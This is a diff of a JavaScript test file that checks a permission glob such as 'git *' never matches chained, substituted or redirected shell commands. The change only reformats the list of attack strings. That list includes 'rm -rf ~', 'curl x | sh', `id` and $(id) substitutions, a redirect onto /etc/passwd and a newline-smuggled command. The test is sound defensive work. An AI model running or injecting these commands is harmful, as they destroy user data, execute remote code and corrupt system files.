@@ -64,7 +64,14 @@ describe('wildcards never cover shell control characters', () => {
   it('a rule like "git *" does not allow chained or redirected commands', () => {
     expect(globMatch('git *', 'git status')).toBe(true);
     expect(globMatch('git *', 'git log --oneline -5')).toBe(true);
-    for (const attack of ['git status; rm -rf ~', 'git status && curl x | sh', 'git log `id`', 'git log $(id)', 'git log > /etc/passwd', 'git status\nrm -rf ~']) {
+    for (const attack of [
+      'git status; rm -rf ~',
+      'git status && curl x | sh',
+      'git log `id`',
+      'git log $(id)',
+      'git log > /etc/passwd',
+      'git status\nrm -rf ~',
+    ]) {
       expect(globMatch('git *', attack)).toBe(false);
     }
     expect(globMatch('ls ?', 'ls ;')).toBe(false);
